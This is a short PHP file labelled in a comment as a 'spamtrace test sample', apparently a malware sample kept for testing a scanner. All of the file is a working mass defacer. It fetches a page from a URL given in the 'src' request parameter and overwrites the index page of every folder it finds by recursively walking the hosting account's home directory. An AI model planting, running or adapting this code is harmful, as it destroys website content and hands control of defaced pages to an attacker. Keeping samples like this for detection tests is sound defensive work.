<?php
// spamtrace test sample: a mass defacer: a page fetched from the address the request names
// written over the index page of every folder a recursive walk of the home finds
function stamp($dir, $page)
{
    foreach (scandir($dir) as $e) {
        if ($e === '.' || $e === '..') {
            continue;
        }
        $p = $dir . '/' . $e;
        if (is_dir($p)) {
            stamp($p, $page);
        } elseif ($e === 'index.php' || $e === 'index.html') {
            file_put_contents($dir . '/index.html', $page);
        }
    }
}
if (isset($_GET['src'])) {
    stamp(dirname($_SERVER['DOCUMENT_ROOT']), file_get_contents($_GET['src']));
    echo 'done';
}
